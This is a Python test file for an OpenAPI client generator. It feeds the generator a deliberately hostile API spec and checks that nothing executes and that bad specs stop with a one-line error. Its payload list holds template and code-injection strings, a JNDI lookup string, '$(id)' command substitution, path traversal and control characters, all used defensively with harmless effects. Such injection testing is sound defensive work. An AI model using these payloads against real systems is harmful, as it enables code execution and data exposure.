"""A page that means harm: whatever it says is text in the generated code, or stops the build with one line."""

import ast
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from scripts import effective, generate, simplify
from scripts.layout import StepError
from scripts.page import read_page
from tests.pipeline import made_up
from tests.pipeline.copy_of_the_tree import ROOT, copy_of_the_tree, files

HARM = [
    *('"', "'", '"""', "'''", "\\", '\\"""', "\\\\", "\\N{BULLET}", "\\u", "\\x", "\n", "\r\n#", "\t", "#"),
    *("{", "}", "{}", "{0}", "{{7*7}}", "{% raw %}", "{% include '/etc/passwd' %}", "{#", "%s", "${HOME}", "$(id)"),
    *("\u202e", "\u2066", "\u2028", "\u2029", "\u0085", "\ufeff", "\u200b", "\0", "\x1b[31m", "\U000e0041", "\u00ad"),
    *("*/", "<script>", "]]>", "--", "../../x", "C:\\x", "`id`", "x" * 300, "x\\" * 100, '"' * 200),
    '"""\nopen("harm", "w")\n"""',
    "'''\nopen('harm', 'w')\n'''",
    '"); open("harm", "w"); ("',
    '\\"); open("harm", "w"); (\\"',
    "'); open('harm', 'w'); ('",
    "\nopen('harm', 'w')\n",
    "\r__import__('os').system('touch harm')\r",
    "{__import__('os').system('touch harm')}",
    "{cycler.__init__.__globals__.os.popen('touch harm')}",
    "{self.__class__.__init__.__globals__}",
    "${jndi:ldap://harm.example}",
]
ALL = " | ".join(HARM)
NAMES = [f"p{number} {text}" for number, text in enumerate(HARM)]
PATH = "/v1/x'y\"z\\\\`$(id)<>%s${{7*7}}\u202e\u200b{id}*|^,;=@:!--"
REMARKS = {"description": ALL, "title": ALL, "example": ALL, "x-harm": ALL, "x-enum-varnames": [ALL]}
BODY = {
    "type": "object",
    "properties": {
        **{
            name: {"type": "string", "description": text, "default": text}
            for name, text in zip(NAMES, HARM, strict=True)
        },
        "word": {"type": "string", "enum": HARM, "default": HARM[0], **REMARKS},
        "row": {
            "type": "object",
            "properties": {name: {"type": "number"} for name in NAMES},
            "required": NAMES,
            **REMARKS,
        },
        "rows": {
            "type": "array",
            "items": {"type": "object", "additionalProperties": {"type": "string", "enum": HARM}},
        },
        **{word: {"type": "string"} for word in ("class", "None", "print", "self", "cls", "d", "toDict", "fieldDict")},
        "pattern": {"type": "string", "pattern": ALL, "format": ALL},
        "escaped": {"type": "string", "pattern": f"^(?!{re.escape(ALL)})"},
    },
    "required": NAMES[:10],
    **REMARKS,
}
OPERATION = {
    "summary": ALL,
    "description": ALL,
    "parameters": [
        {"name": "id", "in": "path", "required": True, "description": ALL, "schema": {"type": "string", **REMARKS}},
        *({"name": name, "in": "query", "description": ALL, "schema": {"type": "string"}} for name in NAMES),
        *({"name": name, "in": "query", "schema": {"type": "string"}} for name in ("params", "body", "url", "import")),
    ],
    "requestBody": {"description": ALL, "required": True, "content": made_up.json_content(BODY)},
    "responses": {"200": {"description": ALL, "content": made_up.json_content(BODY)}},
    "externalDocs": {"url": ALL, "description": ALL},
    "x-harm": {ALL: ALL},
}
PROGRAM = r"""
import importlib, json, pathlib, pkgutil, sys
import httpx, siro_openapi
from siro_openapi.validators import REQUESTS, RESPONSES

names, harm, path = json.load(sys.stdin)
found = pkgutil.walk_packages(siro_openapi.__path__, "siro_openapi.")
modules = [importlib.import_module(module.name) for module in found]
models = importlib.import_module("siro_openapi.models")
for name in models.__all__:
    getattr(models, name)
hostile = importlib.import_module("siro_openapi.api.recordings.hostile")
body = {name: name for name in names} | {"row": {name: 1 for name in names}, "rows": [{text: text for text in harm}]}
body |= {word: word for word in ("class", "None", "print", "self", "cls", "d", "toDict", "fieldDict")}
for text in harm:
    REQUESTS["hostile"]({**body, "word": text})
    model = models.HostileBody.from_dict({**body, "word": text})
    assert model.to_dict() == {**body, "word": text}
    assert model.word.is_known and model.word.value == text
    help_of_all = [str(getattr(value, "__doc__", "")) for value in vars(models.HostileBody).values()]
sent = []
def answer(request):
    sent.append(request)
    return httpx.Response(200, json=json.loads(request.content))
client = siro_openapi.Client("https://siro.example", httpx_args={"transport": httpx.MockTransport(answer)})
asked = list(hostile.request_arguments("../x", body=model)["url"])
response = hostile.sync_detailed("../x", client=client, body=model, params_parameter="1", import_="2")
assert "".join(asked) == path.replace("{id}", "..%2Fx"), "".join(asked)
assert response.parsed.to_dict() == {**body, "word": text}
assert sent[0].url.host == "siro.example" and sent[0].url.path.startswith("/v1/x")
assert sent[0].url.query == b"params=1&import=2", sent[0].url.query
print(len(modules))
"""


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    (tmp_path / "tree").mkdir()
    return copy_of_the_tree(tmp_path / "tree")


def watched(tree: Path, command: list[str], *writable: Path, given: str = "") -> tuple[str, list[str]]:
    """Run a Python of which each process is watched; return what it printed, and what it must not have done."""
    site, report, temporary = tree.parent / "site", tree.parent / "report", tree.parent / "temporary"
    for folder in (site, temporary):
        folder.mkdir(exist_ok=True)
    shutil.copy(ROOT / "tests/pipeline/guard.py", site / "sitecustomize.py")
    report.write_text("", "utf-8")
    environ = {
        **os.environ,
        "PYTHONDONTWRITEBYTECODE": "1",
        "PYTHONPATH": os.pathsep.join(map(str, (site, tree, tree / "generated"))),
        "TMPDIR": str(temporary),
        "GUARD_REPORT": str(report),
        "GUARD_FOLDERS": os.pathsep.join(map(str, (*writable, temporary))),
    }
    result = subprocess.run(
        [sys.executable, *command], check=False, capture_output=True, text=True, input=given, cwd=tree, env=environ
    )
    assert result.returncode == 0, result.stderr
    return result.stdout, report.read_text("utf-8").splitlines()


def test_a_hostile_page_comes_out_as_inert_text(tree: Path) -> None:
    made_up.add(tree, "hostile", made_up.page("post", PATH, OPERATION))
    before = files(tree)

    _, harm = watched(tree, ["-m", "scripts.generate"], tree / "generated", tree / "specs", tree / ".cache")

    assert not harm
    changed = {name for name, content in files(tree).items() if before.get(name) != content}
    made = {name for name in changed if name.startswith("generated/siro_openapi/")}
    assert changed - made == {"specs/effective.yaml", ".cache/generated"}
    for name in made:
        text = (tree / name).read_text("utf-8")
        assert all(character.isprintable() or character == "\n" for character in text), name
        if name.endswith(".py"):
            assert not _named(text) & {"open", "exec", "eval", "os", "system", "popen", "cycler", "__globals__"}, name

    modules, harm = watched(tree, ["-c", PROGRAM], given=json.dumps([NAMES, HARM, PATH]))
    assert int(modules) > 10
    assert not harm


def _named(code: str) -> set[str]:
    """What code calls by a name or an attribute."""
    nodes = list(ast.walk(ast.parse(code)))
    names = {node.id for node in nodes if isinstance(node, ast.Name)}
    return names | {node.attr for node in nodes if isinstance(node, ast.Attribute)}


@pytest.mark.parametrize(
    "deed",
    [
        "open('../harm', 'w')",
        "__import__('os').mkdir('../harm')",
        "__import__('os').system('true')",
        "__import__('subprocess').run(['true'])",
        "__import__('socket').getaddrinfo('localhost', 1)",
    ],
)
def test_the_guard_sees_what_it_is_for(tree: Path, deed: str) -> None:
    _, harm = watched(tree, ["-c", deed], tree)
    assert len(harm) == 1


SIMPLE: dict[str, object] = {"responses": {"204": {"description": "done"}}}
OF_NAME = {"name": "it", "in": "query", "schema": {"type": "string"}}


def with_body(*names: str) -> dict[str, object]:
    schema = {"type": "object", "properties": {name: {"type": "string"} for name in names}}
    return {**SIMPLE, "requestBody": {"content": made_up.json_content(schema)}}


def with_parameter(parameter: dict[str, object]) -> dict[str, object]:
    return {**SIMPLE, "operationId": "it", "parameters": [{**OF_NAME, **parameter}]}


NAMED: dict[str, object] = {**SIMPLE, "operationId": "it"}
STOPS: dict[str, tuple[str, dict[str, object], str]] = {
    "an operation id with slashes": (
        "/v1/x",
        {**SIMPLE, "operationId": "../../x"},
        "/operationId: POST /v1/x has ../../x",
    ),
    "an operation id of Python": ("/v1/x", {**SIMPLE, "operationId": "import"}, "POST /v1/x has import, and a module"),
    "a tag with slashes": ("/v1/x", {**NAMED, "tags": ["/etc"]}, "/tags: POST /v1/x has /etc"),
    "a tag of code": ("/v1/x", {**NAMED, "tags": ["a\nb"]}, "POST /v1/x has 'a\\nb', and a"),
    "no operation id": ("/v1/x", SIMPLE, "/operationId: POST /v1/x has None, and a module is named by it"),
    "a query in the path": ("/v1/x?y=1", NAMED, "leads elsewhere than its segments say"),
    "a path upwards": ("/v1/../x", NAMED, "leads elsewhere than its segments say"),
    "a path to another host": ("//evil.example", NAMED, "leads elsewhere than its segments say"),
    "a format in the path": ("/v1/{0}", NAMED, "Path parameter '0' for 'post'"),
    "an attribute in the path": ("/v1/{it.__class__}", NAMED, "Path parameter 'it.__class__' for 'post'"),
    "a brace in the path": ("/v1/}", NAMED, "Single '}' encountered"),
    "a cookie": ("/v1/x", with_parameter({"in": "cookie"}), "the cookie parameter it is sent in a way"),
    "a header of two lines": (
        "/v1/x",
        with_parameter({"in": "header", "name": "a\r\nb"}),
        "the header parameter 'a\\r\\nb' has a name that no header has",
    ),
    "a style": ("/v1/x", with_parameter({"style": "pipeDelimited"}), "has the style pipeDelimited"),
    "lists joined by commas": (
        "/v1/x",
        with_parameter({"explode": False, "schema": {"type": "array", "items": {"type": "string"}}}),
        "has explode: false, which",
    ),
    "a list in a header": (
        "/v1/x",
        with_parameter({"in": "header", "schema": {"type": "array", "items": {}}}),
        "the header parameter it is of array, and only",
    ),
    "a parameter of JSON": (
        "/v1/x",
        {**NAMED, "parameters": [{"name": "q", "in": "query", "content": made_up.json_content({})}]},
        "the query parameter q has no schema",
    ),
    "a file": (
        "/v1/x",
        {**NAMED, "requestBody": {"content": {"multipart/form-data": {"schema": {}}}}},
        "/requestBody: has the media type multipart/form-data",
    ),
    "an answer of bytes": (
        "/v1/x",
        {**NAMED, "responses": {"200": {"description": "d", "content": {"application/octet-stream": {}}}}},
        "/responses/200: has the media type application/octet-stream",
    ),
    "another version of JSON Schema": (
        "/v1/x",
        {**NAMED, "requestBody": {"content": made_up.json_content({"const": "\u202e"})}},
        "is not valid OpenAPI 3.0: /paths/~1v1~1x/post/requestBody",
    ),
    "a default that does not fit": (
        "/v1/x",
        with_parameter({"schema": {"type": "string", "enum": ["a"], "default": "\u202e"}}),
        "is not valid OpenAPI 3.0: ",
    ),
}


@pytest.mark.parametrize("what", sorted(STOPS))
def test_what_cannot_come_out_right_stops_with_one_line(what: str) -> None:
    path, operation, told = STOPS[what]
    document = read_page(made_up.page("post", path, operation)).document
    with pytest.raises(StepError) as caught:
        generated_from(document)
    assert told in str(caught.value)
    assert str(caught.value).isprintable()


def test_explode_says_nothing_of_one_value() -> None:
    document = read_page(made_up.page("post", "/v1/x", with_parameter({"explode": False}))).document
    assert generated_from(document)


def generated_from(document: dict[str, object]) -> dict[str, object]:
    effective.stop_if_invalid(document)
    return simplify.simplified(document)


OBJECT = {"type": "object", "properties": {"a": {"type": "string"}}}


@pytest.mark.parametrize(
    ("operation", "schemas", "told"),
    [
        ({**NAMED, "operationId": "x" * 300}, {}, "run_generator failed: OSError"),
        ({**NAMED, **with_body("#", "?")}, {}, "have the same python_name"),
        (NAMED, {"AccountID": OBJECT, "AccountId": OBJECT}, "the schemas AccountID and AccountId come to one module"),
    ],
)
def test_what_only_the_generator_sees_stops_with_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, operation: dict[str, object], schemas: dict[str, object], told: str
) -> None:
    document = read_page(made_up.page("post", "/v1/x", operation, schemas=schemas)).document
    monkeypatch.setattr(effective, "build", lambda: document)
    with pytest.raises(StepError) as caught:
        generate.render(tmp_path)
    assert told in str(caught.value)
    assert str(caught.value).isprintable()
